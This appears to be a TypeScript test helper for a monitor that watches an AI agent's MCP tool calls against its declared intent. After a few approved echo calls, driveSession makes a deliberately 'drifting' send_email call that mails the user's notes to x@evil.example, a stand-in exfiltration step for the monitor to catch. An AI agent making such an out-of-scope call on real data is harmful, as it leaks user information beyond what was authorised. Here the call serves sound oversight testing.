import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import type { Identity, Monitor, TappedTransport } from '../../src/index.js';
import { parseIntent, tap } from '../../src/index.js';
import { demoServer } from './servers.js';

/** A real SDK Client connected to the demo server (in memory) through the in-process tap of `monitor`. */
export async function tappedSession(
  monitor: Monitor,
  intent: { purpose: string; tools: string[] },
  identity: Identity,
): Promise<{ client: Client; transport: TappedTransport }> {
  const [c, s] = InMemoryTransport.createLinkedPair();
  await demoServer().connect(s);
  const client = new Client({ name: 'agent', version: '1' });
  const transport = tap(c, monitor, { side: 'client', intent: parseIntent(intent), identity });
  await client.connect(transport);
  return { client, transport };
}

/** The client of `tappedSession`. */
export const tappedClient = async (...args: Parameters<typeof tappedSession>): Promise<Client> =>
  (await tappedSession(...args)).client;

/** A real Client ↔ McpServer session through the tap: a few approved calls, then one drifting call. */
export async function driveSession(
  monitor: Monitor,
  options: { calls?: number; drift?: boolean; sub?: string } = {},
): Promise<string> {
  const { client, transport } = await tappedSession(
    monitor,
    { purpose: 'summarise my notes', tools: ['echo', 'read_notes'] },
    { sub: options.sub ?? 'agent:test' },
  );
  for (let i = 0; i < (options.calls ?? 3); i++)
    await client.callTool({ name: 'echo', arguments: { text: `hello ${i}` } });
  if (options.drift ?? true)
    await client
      .callTool({ name: 'send_email', arguments: { to: 'x@evil.example', body: 'notes' } })
      .catch(() => undefined);
  await client.close();
  return transport.session.id;
}
